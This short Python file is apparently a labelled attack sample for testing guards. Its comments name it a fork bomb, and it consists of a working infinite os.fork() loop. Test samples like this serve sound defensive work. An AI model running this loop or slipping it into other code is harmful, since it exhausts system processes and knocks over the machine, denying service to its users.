# attack: fork bomb
# stops: guards
# os.fork
import os
while True:
    os.fork()
